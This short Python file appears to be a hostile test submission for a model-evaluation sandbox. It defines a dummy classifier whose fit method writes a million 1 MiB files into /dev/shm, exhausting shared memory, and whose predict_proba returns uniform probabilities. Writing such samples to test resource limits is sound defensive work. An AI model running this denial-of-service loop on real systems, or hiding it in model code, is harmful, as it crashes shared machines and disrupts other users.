"""Fill shared memory with many files."""

import numpy as np


class Classifier:
    def fit(self, X, y):
        for number in range(10**6):
            with open(f"/dev/shm/{number}", "wb") as file:
                file.write(bytes(1 << 20))

    def predict_proba(self, X):
        return np.full((len(X), 3), 1 / 3)
